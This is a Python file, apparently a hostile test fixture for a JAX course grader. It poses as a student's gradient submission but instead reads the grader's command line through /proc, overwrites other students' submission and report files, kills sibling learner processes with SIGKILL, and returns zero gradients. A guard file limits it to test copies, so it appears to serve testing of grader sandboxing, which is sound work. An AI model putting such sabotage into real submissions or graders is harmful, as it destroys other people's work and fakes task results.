# Attacks the rest of the class from inside her own child process:
#  - rewrites every submission and report file named on the grader's command line,
#  - kills every other learner process she can find,
# then returns zeros.
# She only attacks a folder holding `.heidi-may-attack` (the test puts it in a copy), so
# grading this folder by hand never damages the repository.
import os
import signal
from pathlib import Path

import jax.numpy as jnp

WRONG = "def grad_w_and_x(scale, w, x, y):\n    raise SystemExit('overwritten by heidi')\n"


def _grader() -> int | None:
    """The grader's pid: her parent, or (when the sandbox hides it) found in /proc."""
    if os.getppid() > 1:
        return os.getppid()
    for entry in os.listdir("/proc"):
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if b"grade" in cmdline and any(b"jaxtutor" in part for part in cmdline):
            return int(entry)
    return None


def _attack():
    grader = _grader()
    try:
        args = Path(f"/proc/{grader}/cmdline").read_bytes().split(b"\0")
    except OSError:
        return
    cwd = Path(f"/proc/{grader}/cwd")
    for arg in args:
        path = cwd / os.fsdecode(arg)  # an absolute argument needs no cwd
        try:
            if path.is_dir() and (path / ".heidi-may-attack").exists():
                for victim in path.rglob("*.py"):
                    if victim.name != "heidi.py":
                        victim.write_text(WRONG)
            elif path.suffix in (".json", ".csv", ".txt") and (path.parent / ".heidi-may-attack").exists():
                path.write_text('{"hacked": true}')
        except OSError:  # the sandbox may hide the grader's cwd from her
            continue
    me = os.getpgid(0)
    for entry in os.listdir("/proc"):  # her siblings: the grader's other learner processes
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            stat = Path(f"/proc/{entry}/stat").read_bytes().rsplit(b")", 1)[1].split()
            environ = Path(f"/proc/{entry}/environ").read_bytes()
            if (int(stat[1]) == grader and b"JAXTUTOR_RUN=" in environ
                    and os.getpgid(int(entry)) != me):
                os.kill(int(entry), signal.SIGKILL)
        except (OSError, ProcessLookupError, IndexError, ValueError):
            continue


def grad_w_and_x(scale, w, x, y):
    _attack()
    return jnp.zeros_like(w), jnp.zeros_like(x)
